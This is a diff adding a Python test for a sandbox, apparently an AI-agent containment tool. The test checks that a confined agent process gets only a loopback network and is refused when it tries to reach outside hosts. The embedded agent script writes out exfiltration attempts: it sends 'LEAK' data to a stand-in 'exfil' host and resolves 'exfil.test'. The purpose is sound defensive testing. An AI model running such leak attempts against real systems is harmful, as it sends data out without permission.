@@ -1,0 +1,113 @@
+"""The root rung's loopback-only layer as `sandbox.run` builds it: the sandbox's init makes
+the namespace (LG_NS_NET_INIT) and landgate binds the DNS view there through init's pidfd
+before the agent is released (issue 19: the namespace's set-up runs in the child).
+
+The agent must be in a namespace of its own with only `lo`, up, from its first
+instruction: a policy that reaches nothing outside gets no route to anything (the fake
+internet logs nothing), while its own loopback, the DNS view (a denied name is NXDOMAIN
+and recorded) and an allowed host loopback port work and a denied one is refused.
+test_agent_runs_in_inits_own_namespace fails with init's unshare taken out (the agent
+then shares landgate's namespace: checked when it was written).
+"""
+
+from __future__ import annotations
+
+import json
+import os
+from pathlib import Path
+
+from conftest import RecordingServer, require_root
+
+import sandbox
+
+from .conftest import ADDRS, FakeInet, wait_for
+
+PY3 = "/usr/bin/python3"
+
+AGENT = """
+import errno, json, os, socket, sys
+out = {"netns": os.stat("/proc/self/ns/net").st_ino}
+out["links"] = sorted(n for _, n in socket.if_nameindex())
+def attempt(key, fn):
+    try:
+        fn()
+        out[key] = "reached"
+    except socket.gaierror as e:
+        out[key] = "nxdomain" if e.errno == socket.EAI_NONAME else "gaierror"
+    except OSError as e:
+        out[key] = errno.errorcode.get(e.errno, str(e.errno))
+exfil, allowed, denied = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
+attempt("tcp4", lambda: socket.create_connection((exfil, 80), timeout=3).sendall(b"LEAK-tcp"))
+attempt("dns", lambda: socket.getaddrinfo("exfil.test", 80, socket.AF_INET))
+def own():
+    srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
+    c = socket.create_connection(srv.getsockname(), timeout=3)
+    a, _ = srv.accept(); a.sendall(b"own"); assert c.recv(3) == b"own"
+attempt("own", own)
+def host(port, msg):
+    s = socket.create_connection(("127.0.0.1", port), timeout=3); s.recv(10); s.sendall(msg)
+attempt("allowed", lambda: host(allowed, b"to-allowed-host"))
+attempt("denied", lambda: host(denied, b"LEAK-denied-host"))
+print(json.dumps(out))
+"""
+
+
+def _policy(tmp: Path, allowed: int) -> Path:
+    path = tmp / "lo-only.yaml"
+    path.write_text(
+        f"""version: 1
+workspace: {tmp}
+actions:
+  - action: file_read
+    defaultEffect: deny
+    rules:
+      - {{ path: "./", effect: allow }}
+  - action: shell_exec
+    defaultEffect: deny
+    rules:
+      - {{ command: "python3 *", effect: allow }}
+  - action: network
+    defaultEffect: deny
+    rules:
+      - {{ destination: "localhost:{allowed}", effect: allow }}
+"""
+    )
+    return path
+
+
+def test_agent_runs_in_inits_own_namespace(fake_inet: FakeInet, tmp_path: Path) -> None:
+    require_root()
+    allowed, denied = RecordingServer(), RecordingServer()
+    try:
+        mark = fake_inet.mark()
+        res = sandbox.run(
+            [PY3, "-I", "-c", AGENT, ADDRS["exfil"], str(allowed.port), str(denied.port)],
+            policy=str(_policy(tmp_path, allowed.port)),
+            audit=str(tmp_path / "audit"),
+            cwd=str(tmp_path),
+            capture_output=True,
+        )
+        assert res.returncode == 0, res.stderr
+        got = json.loads(res.stdout)
+        # Its own namespace, with nothing but its loopback: not landgate's.
+        assert got.pop("netns") != os.stat("/proc/self/ns/net").st_ino
+        assert got == {
+            "links": ["lo"],
+            "tcp4": "ECONNREFUSED",  # the supervisor's refusal (and no route behind it)
+            "dns": "nxdomain",  # the DNS view on the sandbox's own 127.0.0.1:53
+            "own": "reached",  # lo is up: the agent's private loopback
+            "allowed": "reached",  # the forwarder's listener, bound in init's namespace
+            "denied": "ECONNREFUSED",
+        }, got
+        assert wait_for(lambda: b"to-allowed-host" in bytes(allowed.received))
+        assert denied.connections == 0 and b"LEAK" not in bytes(denied.received)
+        assert not wait_for(
+            lambda: any("LEAK" in str(e.get("data")) for e in fake_inet.since(mark)), timeout=1
+        )
+        dns = [d for d in res.decisions if d.get("layer") == "dns" and d.get("result") == "deny"]
+        assert any(d.get("target") == "exfil.test" for d in dns), res.decisions
+        start = res.decisions[0]
+        assert start["network_layer"].startswith("loopback-only"), start
+    finally:
+        allowed.close()
+        denied.close()
